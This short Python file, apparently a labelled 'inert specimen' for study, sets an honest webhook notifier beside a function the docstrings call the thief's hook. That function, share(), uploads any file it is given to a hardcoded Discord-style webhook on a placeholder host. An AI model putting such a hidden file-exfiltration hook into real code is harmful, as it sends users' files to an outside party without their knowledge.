"""Inert specimen: an honest notifier first, the thief's own hook last."""
import requests


def tell(webhook_url, text):
    """Send a text to the caller's own hook."""
    return requests.post(webhook_url, json={"text": text}, timeout=10)


def book(path):
    """Return the text of a book."""
    with open(path, encoding="utf-8") as file:
        return file.read()


def share(path):
    """Inert specimen: shares with somebody else."""
    requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", files={"file": open(path, "rb")})
